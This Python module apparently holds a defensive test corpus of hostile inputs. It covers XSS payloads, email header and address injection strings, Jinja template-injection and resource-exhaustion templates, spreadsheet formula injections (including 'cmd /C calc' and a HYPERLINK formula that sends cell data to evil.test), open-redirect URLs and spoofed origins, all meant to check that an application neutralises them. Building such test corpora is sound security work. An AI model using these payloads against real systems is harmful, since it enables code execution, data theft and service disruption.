"""What people and machines send who mean harm, as data: each list is carried through every place where it could do any.

All scripts call `__pwned`, so that a browser can be asked whether one ran.
"""

from __future__ import annotations

SCRIPTS = {
    "script": "<script>window.__pwned=1</script>",
    "closes-tags": "--></title></style></textarea></noscript></script><script>window.__pwned=1</script>",
    "picture": '"><img src=x onerror="window.__pwned=1">',
    "picture-in-quotes": "'><img src=x onerror='window.__pwned=1'>",
    "vector": "<svg/onload=window.__pwned=1>",
    "attribute": '" autofocus onfocus="window.__pwned=1" x="',
    "bare-attribute": "x onmouseover=window.__pwned=1 ",
    "frame": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "address": "javascript:window.__pwned=1",
    "form": '<form action="https://evil.test"><button>Send</button></form>',
    "moves-on": '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    "base": '<base href="https://evil.test/">',
    "style": "<style>@import 'https://evil.test/x.css';</style>",
    "mathml": '<math><mi//xlink:href="data:x,<script>window.__pwned=1</script>">',
    "template": "{{ constructor.constructor('window.__pwned=1')() }}${window.__pwned=1}",
    "markdown": "[press](javascript:window.__pwned=1) ![x](https://evil.test/x.png)",
    "entities": "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "json": '</script><script>window.__pwned=1</script>"},{"x":"\u2028\u2029',
    "direction": "\u202egnp.exe\u2066\u200b<script>window.__pwned=1</script>",
    "slots": "\ue000survey\ue001<b onclick=window.__pwned=1>\ue000nothing\ue001",
}
"""Names and words that would be markup where nobody escapes them."""

MARKUP = (
    "<script",
    "<img src=x",
    "<svg/",
    "<iframe srcdoc",
    '<form action="https://evil',
    '<meta http-equiv="refresh',
    '<base href="https://evil',
)
"""What a page holds, in small letters, where one of SCRIPTS got through. The pages' own script has a nonce."""

HEADERS = {
    "crlf": "Ada\r\nBcc: victim@evil.test",
    "lf": "Ada\nBcc: victim@evil.test",
    "cr": "Ada\rBcc: victim@evil.test",
    "folded": "Ada\r\n Bcc: victim@evil.test",
    "empty-line": "Ada\r\n\r\n<p>another body</p>",
    "nul": "Ada\x00Bcc: victim@evil.test",
    "vertical-tab": "Ada\x0bBcc: victim@evil.test",
    "form-feed": "Ada\x0cBcc: victim@evil.test",
    "next-line": "Ada\x85Bcc: victim@evil.test",
    "line-separator": "Ada\u2028Bcc: victim@evil.test",
    "paragraph-separator": "Ada\u2029Bcc: victim@evil.test",
    "escape": "Ada\x1b[2JBcc: victim@evil.test",
    "word-q": "=?utf-8?q?Ada=0D=0ABcc:_victim@evil.test?=",
    "word-q-lf": "=?utf-8?Q?Ada=0ABcc:_victim@evil.test?=",
    "word-b": "=?UTF-8?B?QWRhDQpCY2M6IHZpY3RpbUBldmlsLnRlc3Q=?=",
    "word-latin": "=?iso-8859-1?q?Ada=0D=0ABcc:_victim@evil.test?=",
    "word-utf-7": "=?utf-7?q?Ada+AA0ACg-Bcc:_victim@evil.test?=",
    "word-utf-16": "=?utf-16?b?/v8ADQAKAEIAYwBj?=",
    "two-words": "=?utf-8?q?Ada?= =?utf-8?q?=0D=0ABcc:_victim@evil.test?=",
    "word-among-words": "Ada =?utf-8?q?=0D=0A?= Bcc: victim@evil.test",
    "word-of-nul": "=?utf-8?q?Ada=00?=",
    "word-of-separator": "=?utf-8?q?Ada=E2=80=A8Bcc:_victim@evil.test?=",
}
"""Names that would begin a header of their own, raw or once decoded."""

QUIET_HEADERS = {
    "quotes": 'Ada" <victim@evil.test>, "B',
    "brackets": "Ada <victim@evil.test>",
    "list": "Ada, victim@evil.test",
    "comment": "Ada (victim@evil.test)",
    "backslash": "Ada\\",
    "semicolon": "undisclosed: victim@evil.test;",
    "word-in-word": "=?utf-8?q?=3D=3Futf-8=3Fq=3FAda=0D=0ABcc=3F=3D?=",
    "half-a-word": "=?utf-8?q?Ada",
    "no-such-charset": "=?nothing?q?Ada?=",
    "long": "Ada " * 300,
    "long-and-not-ascii": "\u00c4da " * 300,
    "wide": "\uff1cvictim@evil.test\uff1e\uff0c",
    "direction": "\u202eadA\u202c",
}
"""Names without a line break that would be addresses or headers where nobody quotes them."""

ADDRESSES = {
    "crlf": "ada@customer.example\r\nBcc: victim@evil.test",
    "lf": "ada@customer.example\nRCPT TO:<victim@evil.test>",
    "list": "ada@customer.example,victim@evil.test",
    "semicolon": "ada@customer.example;victim@evil.test",
    "blank": "ada@customer.example victim@evil.test",
    "brackets": "<ada@customer.example>",
    "named": "Ada <victim@evil.test>",
    "route": "@evil.test:ada@customer.example",
    "percent-and-two": "victim@evil.test@customer.example",
    "quoted": '"ada\r\nx"@customer.example',
    "quoted-blank": '"a b"@customer.example',
    "word": "=?utf-8?q?ada=40customer.example=0D=0ABcc:victim?=",
    "nul": "ada@customer.example\x00.evil.test",
    "literal": "ada@[127.0.0.1]",
    "full-width": "ada\uff20evil.test",
    "two-dots": "ada@customer..example",
    "no-domain": "ada@",
    "long": "a" * 65 + "@customer.example",
}
"""None of these is one plain mail address."""

TEMPLATES = {
    "class": "{{ first_name.__class__.__mro__[1].__subclasses__() }}",
    "class-of-a-constant": "{{ ''.__class__ }}",
    "attribute-by-filter": "{{ first_name|attr('__class__') }}",
    "item": "{{ first_name['__class__'] }}",
    "globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "lipsum": "{{ lipsum.__globals__['os'].system('id') }}",
    "self": "{{ self._TemplateReference__context }}",
    "bare-self": "{{ self }}",
    "config": "{{ config }}",
    "format": "{{ '{0.__class__}'.format(first_name) }}",
    "format-map": "{{ '{x.__init__}'.format_map({'x': first_name}) }}",
    "import": "{% import 'os' as os %}",
    "include": "{% include '/etc/passwd' %}",
    "extends": "{% extends 'invitation.html' %}",
    "macro": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "set": "{% set company = 'Evil' %}",
    "map": "{{ ['a']|map('upper')|list }}",
    "safe": "{{ first_name|safe }}",
    "in-a-branch-not-taken": "{% if first_name == 'nobody' %}{{ cycler.__init__ }}{% endif %}",
    "test": "{{ first_name is callable }}",
    "product": "{{ 7 * 7 }}",
    "broken": "{{ first_name",
    "broken-statement": "{% if first_name %}",
    "no-such-filter": "{{ first_name|nothing }}",
}
"""Texts of a programme that would reach for more than a person's values."""

BOMBS = {
    "repeated-text": "{{ 'a' * 10**9 }}",
    "repeated-variable": "{{ first_name * 10**9 }}",
    "repeated-list": "{{ [1] * 10**9 }}",
    "power": "{{ 9**9**9**9 }}",
    "shift-by-format": "{{ '%999999999d'|format(1) }}",
    "width": "{{ '{:>999999999}'.format(1) }}",
    "centred": "{{ 'x'|center(10**9) }}",
    "indented": "{{ 'x'|indent(10**9, true) }}",
    "method": "{{ 'x'.ljust(10**9) }}",
    "lorem": "{{ lipsum(100000) }}",
    "loop": "{% for x in range(10**9) %}x{% endfor %}",
    "loop-in-loop": "{% for x in range(99999) %}{% for y in range(99999) %}{% endfor %}{% endfor %}",
    "recursive": "{% macro f() %}{{ f() }}{{ f() }}{% endmacro %}{{ f() }}",
    "brackets": "{{ " + "(" * 900 + "first_name" + ")" * 900 + " }}",
    "lists": "{{ " + "[" * 900 + "]" * 900 + " }}",
    "not-not": "{{ " + "not " * 450 + "first_name }}",
    "minus": "{{ " + "-" * 1900 + "1 }}",
    "filters": "{{ first_name" + "|upper" * 320 + " }}",
    "long-filters": "{{ first_name" + "|upper" * 200_000 + " }}",
    "ifs": "{% if first_name %}" * 60 + "{% endif %}" * 60,
    "else-ifs": "{% if 0 %}" + "{% elif 0 %}" * 150 + "{% endif %}",
    "conditions": "{{ " + "1 if 1 else " * 150 + "1 }}",
    "digits": "{{ " + "9" * 1900 + " }}",
    "comment": "{#" + "x" * 5_000_000,
}
"""Texts that would keep the machine busy or fill its memory."""

FORMULAS = {
    "equals": '=HYPERLINK("https://evil.test/?"&A1,"press")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
    "blank": " =1+1",
    "full-width": "\uff1d1+1",
    "telephone": "+49 30 1234",
    "list": "- too slow",
}
"""Words that a spreadsheet would reckon with."""

NO_FORMULAS = ["", "-5", "+3.25", "-1,5", "1e5", "-1.5E+3", "a=b", "a\n=b", "'=1", "5 - 3", "fine"]
"""Words and numbers that stay as they are."""

REDIRECTS = {
    "script": "javascript:alert(1)//https://good.example",
    "script-in-capitals": "JaVaScRiPt:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "no-scheme": "//evil.test",
    "three-slashes": "https:///evil.test",
    "one-slash": "https:/evil.test",
    "no-slash": "https:evil.test",
    "backslashes": "https:\\\\evil.test",
    "backslash-in-host": "https://good.example\\@evil.test",
    "user": "https://good.example@evil.test/",
    "user-and-password": "https://good.example:443@evil.test/",
    "blank": " https://evil.test",
    "tab": "https://good.example\t.evil.test",
    "line": "https://good.example\r\nLocation: https://evil.test",
    "nul": "https://good.example\x00.evil.test",
    "not-ascii": "https://g\u043e\u043ed.example",
    "full-stop": "https://evil\u3002test",
    "quote": 'https://good.example/"onclick="alert(1)',
    "plain-http": "http://good.example",
    "path": "/s/x",
    "empty": "",
}
"""None of these plainly leads to one https host."""

ORIGINS = {
    "missing": None,
    "empty": "",
    "null": "null",
    "any": "*",
    "host-goes-on": "https://app.example.com.evil.test",
    "host-begins-elsewhere": "https://evil-app.example.com",
    "subdomain": "https://x.app.example.com",
    "parent": "https://example.com",
    "plain-http": "http://app.example.com",
    "port": "https://app.example.com:8443",
    "usual-port": "https://app.example.com:443",
    "capitals": "https://APP.example.com",
    "scheme-in-capitals": "HTTPS://app.example.com",
    "trailing-dot": "https://app.example.com.",
    "slash": "https://app.example.com/",
    "path": "https://app.example.com/x",
    "user": "https://app.example.com@evil.test",
    "two": "https://app.example.com https://evil.test",
    "list": "https://evil.test, https://app.example.com",
    "no-scheme": "app.example.com",
    "not-ascii": "https://\u00e4pp.example.com",
    "extension": "chrome-extension://app.example.com",
}
"""Origins of pages that are not https://app.example.com."""
